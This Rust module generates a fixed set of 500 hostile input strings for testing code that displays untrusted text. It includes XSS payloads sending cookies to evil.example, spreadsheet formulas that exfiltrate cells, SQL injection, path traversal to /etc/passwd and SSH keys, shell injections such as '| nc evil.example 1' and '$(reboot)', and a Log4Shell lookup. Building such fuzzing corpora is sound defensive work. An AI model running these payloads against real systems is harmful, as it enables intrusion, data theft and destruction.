//! Texts that mean harm wherever they are shown or handed on: made by rule, the same ones each time. Whatever takes a
//! text from a host, an archive or a stranger, and shows it, is tried with all of them.

/// How many there are.
pub const COUNT: usize = 500;

/// What a text tries to do.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Harm {
    /// Steer a terminal or end a line of a log.
    Control,
    /// Turn the direction of text, or hide a part of it.
    Direction,
    /// Become markup or script of a page.
    Markup,
    /// Become a formula of a spreadsheet.
    Formula,
    /// End a string of SQL.
    Sql,
    /// Leave a folder, or name a device.
    Path,
    /// Become a command of a shell or a template.
    Command,
    /// Be longer than anybody expects.
    Huge,
    /// Be no text at all, or an odd one, where text is expected.
    Encoding,
}

/// One text.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Hostile {
    /// What it tries.
    pub harm: Harm,
    /// The text; bytes that are no UTF-8 stand in [`bytes`] only.
    pub text: String,
}

/// All of them, the same ones in the same order each time.
pub fn texts() -> Vec<Hostile> {
    let rules: [(Harm, Vec<String>); 9] = [
        (Harm::Control, control()),
        (Harm::Direction, direction()),
        (Harm::Markup, markup()),
        (Harm::Formula, formula()),
        (Harm::Sql, sql()),
        (Harm::Path, path()),
        (Harm::Command, command()),
        (Harm::Huge, huge()),
        (Harm::Encoding, encoding()),
    ];
    let mut texts: Vec<Hostile> = rules
        .into_iter()
        .flat_map(|(harm, texts)| texts.into_iter().map(move |text| Hostile { harm, text }))
        .collect();
    // Filled up with pairs: what defends against one must not open the door for another.
    let single = texts.len();
    for at in 0..COUNT.saturating_sub(single) {
        let first = &texts[at * 7 % single];
        let second = &texts[(at * 13 + 5) % single];
        let (harm, text) = (first.harm, format!("{}{}", first.text, second.text));
        texts.push(Hostile { harm, text });
    }
    texts.truncate(COUNT);
    texts
}

/// Bytes that are no UTF-8, for wherever bytes and not text are taken.
pub fn bytes() -> Vec<Vec<u8>> {
    let wrong: [&[u8]; 12] = [
        b"\xff",
        b"\xfe\xff",
        b"\xc0\xaf",
        b"\xe0\x80\xaf",
        b"\xed\xa0\x80",
        b"\xed\xbf\xbf",
        b"\xf4\x90\x80\x80",
        b"\xf8\x88\x80\x80\x80",
        b"\x80",
        b"\xc3",
        b"\xe2\x82",
        b"\xf0\x9f\x92",
    ];
    let alone = wrong.iter().map(|bytes| bytes.to_vec());
    let inside = wrong.iter().map(|bytes| [b"<b>", *bytes, b"</b>"].concat());
    alone.chain(inside).collect()
}

fn control() -> Vec<String> {
    let each = (0..0x20)
        .chain([0x7f])
        .chain(0x80..0xa0)
        .filter_map(char::from_u32);
    let alone = each.map(|control| format!("a{control}b"));
    let sequences = [
        "\u{1b}[2J\u{1b}[H",
        "\u{1b}]0;owned\u{7}",
        "\u{1b}]8;;https://evil.example\u{1b}\\click\u{1b}]8;;\u{1b}\\",
        "\u{1b}[31mred",
        "\u{9b}31mred",
        "\u{1b}P$q\u{1b}\\",
        "\u{1b}[6n",
        "\u{1b}[?1049h",
        "\r\nSet-Cookie: a=b",
        "a\r\nX-Evil: 1\r\n\r\n<html>",
        "ok\nERROR: the server was erased",
        "back\u{8}\u{8}\u{8}\u{8}space",
        "a\u{0}b",
        "%0d%0aLocation:%20https://evil.example",
    ];
    alone.chain(sequences.map(String::from)).collect()
}

fn direction() -> Vec<String> {
    let marks = [
        '\u{61c}',
        '\u{200b}',
        '\u{200c}',
        '\u{200d}',
        '\u{200e}',
        '\u{200f}',
        '\u{2028}',
        '\u{2029}',
        '\u{202a}',
        '\u{202b}',
        '\u{202c}',
        '\u{202d}',
        '\u{202e}',
        '\u{2060}',
        '\u{2066}',
        '\u{2067}',
        '\u{2068}',
        '\u{2069}',
        '\u{feff}',
        '\u{fff9}',
        '\u{fffb}',
        '\u{180e}',
        '\u{e0001}',
        '\u{e007f}',
        '\u{ad}',
        '\u{34f}',
        '\u{115f}',
        '\u{3164}',
    ];
    let inside = marks.iter().map(|mark| format!("safe{mark}gpj.exe"));
    let twice = marks.iter().map(|mark| format!("{mark}{mark}"));
    inside.chain(twice).collect()
}

fn markup() -> Vec<String> {
    let scripts = [
        "alert(1)",
        "document.location='https://evil.example/?'+document.cookie",
    ];
    let frames = [
        "<script>{}</script>",
        "</script><script>{}</script>",
        "<img src=x onerror=\"{}\">",
        "<svg onload={}>",
        "\"><script>{}</script>",
        "' onmouseover='{}",
        "\" autofocus onfocus=\"{}",
        "javascript:{}",
        "<a href=\"javascript:{}\">x</a>",
        "</textarea><script>{}</script>",
        "</title><script>{}</script>",
        "<!--<script>{}//-->",
        "]]><script>{}</script>",
        "<iframe srcdoc=\"<script>{}</script>\">",
        "<math><mi xlink:href=\"data:x,<script>{}</script>\">",
        "<style>@import 'https://evil.example/{}';</style>",
        "\u{2028}{}//",
        "`${{}}`",
    ];
    let scripted = frames
        .iter()
        .flat_map(|frame| scripts.iter().map(move |script| frame.replace("{}", script)));
    let plain = [
        "&lt;script&gt;",
        "&#60;script&#62;",
        "&amp;amp;",
        "<b>bold",
        "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
        "<?xml version=\"1.0\"?>",
        "[x](javascript:alert(1))",
        "![x](https://evil.example/pixel.png)",
        "data:text/html;base64,PHNjcmlwdD4=",
        "<base href=https://evil.example/>",
        "<meta http-equiv=refresh content=0;url=https://evil.example>",
        "<form action=https://evil.example><input name=password>",
        "＜script＞alert(1)＜/script＞",
    ];
    scripted.chain(plain.map(String::from)).collect()
}

fn formula() -> Vec<String> {
    let starts = [
        "=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "＋", "－", "＠", "'=", "\"=", ";=", ",=", "|",
        "%",
    ];
    let bodies = [
        "1+1",
        "cmd|' /C calc'!A0",
        "HYPERLINK(\"https://evil.example?\"&A1,\"click\")",
        "WEBSERVICE(\"https://evil.example/\"&A1)",
    ];
    starts
        .iter()
        .flat_map(|start| bodies.iter().map(move |body| format!("{start}{body}")))
        .collect()
}

fn sql() -> Vec<String> {
    [
        "'; DROP TABLE hosts; --",
        "' OR '1'='1",
        "\" OR \"\"=\"",
        "1; DELETE FROM tenants",
        "' UNION SELECT hash FROM users --",
        "') OR 1=1 --",
        "\\'; DROP TABLE hosts; --",
        "%' AND 1=1 --",
        "_%_%",
        "$1",
        "?1",
        ":name",
        "'||(SELECT name FROM users LIMIT 1)||'",
        "'; ATTACH DATABASE '/tmp/x' AS x; --",
        "'; COPY users TO '/tmp/x'; --",
        "0x27",
        "ʼ OR 1=1 --",
        "/* */ OR /* */ 1=1",
        "NULL",
        "\u{0}' OR 1=1",
    ]
    .map(String::from)
    .into()
}

fn path() -> Vec<String> {
    [
        "../../../../etc/passwd",
        "..\\..\\..\\windows\\win.ini",
        "/etc/shadow",
        "....//....//etc/passwd",
        "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "..%252f..%252fetc",
        "..%c0%af..%c0%afetc",
        "file:///etc/passwd",
        "\\\\evil.example\\share",
        "C:\\Windows\\System32",
        "/proc/self/environ",
        "/dev/zero",
        "CON",
        "NUL.txt",
        "a/../../b",
        ".",
        "..",
        "~root/.ssh/id_ed25519",
        "a\u{0}.txt",
        "//evil.example/x",
        "api/v1/../../keys/master.key",
        ";/../x",
    ]
    .map(String::from)
    .into()
}

fn command() -> Vec<String> {
    [
        "; reboot",
        "| nc evil.example 1",
        "$(reboot)",
        "`reboot`",
        "&& reboot",
        "--version",
        "-oProxyCommand=reboot",
        "-rf /",
        "a b\tc",
        "*",
        "?",
        "{a,b}",
        "!!",
        "${IFS}reboot",
        "{{7*7}}",
        "{% include 'x' %}",
        "${jndi:ldap://evil.example/a}",
        "#{7*7}",
        "<%= 7*7 %>",
        "%n%n%n%s%s",
        "%s%p%x%d",
        "{0}",
        "{}",
        "\\u0000",
        "\\x3cscript\\x3e",
        "__proto__",
        "constructor",
        "toString",
        "true",
        "null",
        "undefined",
        "NaN",
        "-1",
        "9223372036854775808",
        "1e309",
        "[object Object]",
    ]
    .map(String::from)
    .into()
}

fn huge() -> Vec<String> {
    let long = [
        "a", "<", "\"", "\\", "\u{202e}", "é", "𝕏", "e\u{301}", "\n", "&amp;",
    ];
    let lengths = [64, 255, 256, 4096];
    let repeated = long
        .iter()
        .flat_map(|text| lengths.iter().map(move |length| text.repeat(*length)));
    let marks = [
        "Z\u{334}\u{335}\u{336}\u{337}\u{338}".repeat(500),
        "(".repeat(3000),
        "[".repeat(3000),
    ];
    repeated.chain(marks).collect()
}

fn encoding() -> Vec<String> {
    let odd = [
        "\u{fffd}",
        "\u{fffe}",
        "\u{ffff}",
        "\u{10ffff}",
        "\u{1fffe}",
        "\u{e000}",
        "\u{f8ff}",
        "\u{fdd0}",
        "\u{d7ff}",
        "ﷺ",
        "ﬃ",
        "ı",
        "İ",
        "ẞ",
        "Ａdmin",
        "аdmin",
        "admin\u{200b}",
        "root ",
        " root",
        "K",
        "ℹ",
        "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}",
        "🏴\u{e0067}\u{e0062}\u{e007f}",
        "",
        " ",
        "\u{a0}",
        "\u{3000}",
        "\\ud800",
        "+ADw-script+AD4-",
        "\u{feff}<script>",
    ];
    odd.map(String::from).into()
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::BTreeSet;

    #[test]
    fn there_are_five_hundred_and_all_differ() {
        let all = texts();
        assert_eq!(all.len(), COUNT);
        let distinct: BTreeSet<_> = all.iter().map(|hostile| &hostile.text).collect();
        assert!(
            distinct.len() >= COUNT - 4,
            "{} of {COUNT} differ",
            distinct.len()
        );
        let harms: BTreeSet<_> = all.iter().map(|hostile| hostile.harm).collect();
        assert_eq!(harms.len(), 9, "each harm is there");
        assert_eq!(all, texts(), "the same ones each time");
    }

    #[test]
    fn bytes_are_no_text() {
        assert!(bytes().iter().all(|bytes| std::str::from_utf8(bytes).is_err()));
    }
}
